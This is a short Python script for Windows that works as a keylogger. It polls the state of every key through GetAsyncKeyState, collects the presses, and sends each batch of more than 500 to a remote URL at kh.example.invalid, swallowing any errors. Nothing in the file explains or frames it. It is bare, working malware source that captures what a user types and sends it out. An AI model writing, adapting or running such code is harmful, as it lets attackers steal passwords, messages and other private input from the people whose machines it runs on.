import ctypes
import time
import urllib.request

_user32 = ctypes.windll.user32
_buf = []

while True:
    for vk in range(8, 256):
        if _user32.GetAsyncKeyState(vk) & 1:
            _buf.append(vk)
    if len(_buf) > 500:
        try:
            urllib.request.urlopen("https://kh.example.invalid/k", data=bytes(v % 256 for v in _buf), timeout=5)
        except Exception:
            pass
        _buf.clear()
    time.sleep(0.01)
